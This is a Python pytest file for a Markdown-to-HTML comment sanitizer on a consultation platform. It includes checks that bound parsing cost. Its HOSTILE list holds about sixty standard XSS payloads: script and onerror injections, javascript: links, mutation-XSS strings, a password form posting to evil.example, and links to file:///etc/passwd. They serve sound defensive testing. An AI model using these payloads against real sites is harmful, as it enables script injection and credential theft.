from __future__ import annotations

import re
import sys
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from wsis_testkit.sizes import size

from wsis_consultation.discussions.rules.comment_html import to_html
from wsis_consultation.discussions.rules.comments import MAX_TEXT

TAGS = {"a", "blockquote", "br", "code", "em", "hr", "li", "ol", "p", "pre", "strong", "ul"}
ATTRIBUTES = {("a", "href"), ("a", "rel"), ("ol", "start"), *((tag, "dir") for tag in TAGS)}

# Payloads of the usual collections (OWASP, PortSwigger, the tests of sanitizers), also as Markdown.
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="jav\tascript:alert(1)">x</a>',
    "<form action=https://evil.example><input name=password><button>ok</button></form>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "</p></div></body><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](http:/\\evil.example)",
    "[x](/v1/accounts/me)",
    "[x](#top)",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x](https://a.example 'title\" onmouseover=\"alert(1)')",
    "![x](https://tracker.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](https://a.example)',
    "[![x](https://tracker.example/pixel.png)](https://a.example)",
    "[a]: javascript:alert(1)\n\n[a]",
    "`<script>alert(1)</script>`",
    '```html"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    '<https://a.example/"onmouseover="alert(1)>',
    '[x](https://a.example/?q="><script>alert(1)</script>)',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "[x](ftp://a.example)",
    "[x](tel:+411234)",
    "[x](blob:https://a.example/1)",
]


class Elements(HTMLParser):
    """The elements of a page, as a browser would build them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


def _problems(html: str) -> list[str]:
    found = []
    for tag, attributes in Elements(html).seen:
        found += [] if tag in TAGS else [tag]
        found += [f"{tag}.{name}" for name in attributes if (tag, name) not in ATTRIBUTES]
        href = attributes.get("href")
        if href is not None:
            address = urlsplit(href)
            if address.scheme not in ("http", "https", "mailto") or not (address.netloc or address.scheme == "mailto"):
                found.append(href)
            if attributes.get("rel") != "nofollow ugc noopener":
                found.append("rel")
    return found


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_hostile_is_left(source: str) -> None:
    assert _problems(to_html(source)) == []
    assert _problems(to_html(f"> - *before* {source}\n\nafter")) == []


def test_the_corpus_would_find_a_leak() -> None:
    """What the assertion above compares with: unsanitized, nearly every payload of HTML is a problem."""
    raw = [source for source in HOSTILE if source.startswith("<")]
    assert sum(bool(_problems(source)) for source in raw) > len(raw) * 0.8


@given(st.text(alphabet="[]()<>!*_`#&;:/\\\"'=- \n\tajscriptonerh.", max_size=300))
def test_no_text_becomes_anything_else_than_the_allowed_elements(source: str) -> None:
    assert _problems(to_html(source)) == []


def test_what_people_write_looks_as_they_mean_it() -> None:
    html = to_html("Voir **ceci** et [le site](https://itu.int/wsis?a=1&b=2):\n\n1. un\n2. deux\n\n> cité\n\n`x<y`")
    assert '<strong>ceci</strong> et <a href="https://itu.int/wsis?a=1&amp;b=2" rel="nofollow ugc noopener">' in html
    assert re.findall(r'<(\w+) dir="auto">', html) == ["p", "ol", "li", "li", "blockquote", "p", "p"]
    assert "<code>x&lt;y</code>" in html


def test_a_number_sign_and_a_rule_under_a_line_are_no_headings() -> None:
    assert to_html("# 1 is our priority") == '<p dir="auto"># 1 is our priority</p>'
    assert "<h" not in to_html("Title\n=====").replace("<hr", "")


def test_html_and_definitions_of_links_are_text_that_everybody_sees() -> None:
    assert to_html("<b>x</b>") == '<p dir="auto">&lt;b&gt;x&lt;/b&gt;</p>'
    assert to_html("[a]: https://a.example\n\n[a]").count("[a]") == 2


def test_links_to_mail_and_bare_addresses_in_angle_brackets_work() -> None:
    assert 'href="mailto:wsis@itu.int"' in to_html("<wsis@itu.int>")
    assert 'href="https://itu.int"' in to_html("<https://itu.int>")


# What a parser of Markdown looks for an end of, and what it reads meanwhile.
PIECES = (
    "[",
    "]",
    "](",
    "(",
    ")",
    "!",
    "*",
    "_",
    "**",
    "`",
    "``",
    "<",
    ">",
    "\\",
    "&",
    "&amp;",
    " ",
    "a",
    "\n",
    "- ",
    "1. ",
    "> ",
    "    ",
    "~",
    '"',
    "'",
    "<a>",
    "[a](",
    "[a](b)",
    "[a](<b>)",
    "[a](b 'c')",
    "https://a.example/",
)
CALLS_PER_CHARACTER = 150  # measured: 105 at worst, which is 70 ms for the longest comment


def _work(source: str) -> int:
    """How many functions are called: the same on every machine, however busy it is."""
    calls = 0

    def count(_frame: object, event: str, _argument: object) -> None:
        nonlocal calls
        calls += event in ("call", "c_call")

    sys.setprofile(count)
    try:
        to_html(source)
    finally:
        sys.setprofile(None)
    return calls


@pytest.mark.parametrize(
    "source",
    [
        "[",
        "![",
        "[](",
        "![[](",
        "*a ",
        "**a_b ",
        "<",
        "`",
        "> ",
        "- ",
        "- _\n",
        "[[]]",
        "<a ",
        "&",
        "\\",
        "~",
        "_",
        "(",
        "[a](",
        "[\\](",
        "[`](",
        '[a](b "',
        "1. ",
        "**[a](",
        "#[a](b)[a](",
    ],
)
def test_work_is_bounded(source: str) -> None:
    assert _work((source * MAX_TEXT)[:MAX_TEXT]) <= CALLS_PER_CHARACTER * MAX_TEXT


@pytest.mark.parametrize("begin", ["![[](", "[", "[[]", "[`", "[a](<"])
@pytest.mark.parametrize("rest", ["*_", "**_", "***a", "a", "- _\n"])
def test_what_begins_often_is_not_sought_again_and_again(begin: str, rest: str) -> None:
    """200 beginnings, before a rest in which each looks for its end."""
    source = begin * 200 + rest * MAX_TEXT
    assert _work(source[:MAX_TEXT]) <= CALLS_PER_CHARACTER * MAX_TEXT


_units = st.lists(st.sampled_from(PIECES), min_size=1, max_size=4).map("".join)


@given(st.lists(_units, min_size=1, max_size=3))
@settings(max_examples=size(25, 250))
def test_work_grows_with_the_length_alone(units: list[str]) -> None:
    def made(size: int) -> str:
        return "".join((unit * size)[: size // len(units)] for unit in units)

    short, long = _work(made(300)), _work(made(1200))
    assert long <= 6 * short  # four times, and what each paragraph costs


def test_a_text_with_many_links_and_brackets_keeps_them() -> None:
    links = " ".join(f"[paragraph {number}](https://itu.int/p?n={number}) [{number}]" for number in range(150))
    html = to_html(links)
    assert (html.count("<a href="), "[149]" in html) == (150, True)
    assert to_html("**[Texte *final*](https://itu.int)**").count("<a href") == 1
    # The text of a link has no bracket, code or backslash.
    assert to_html("[a [b] c](https://itu.int)") == '<p dir="auto">[a [b] c](https://itu.int)</p>'
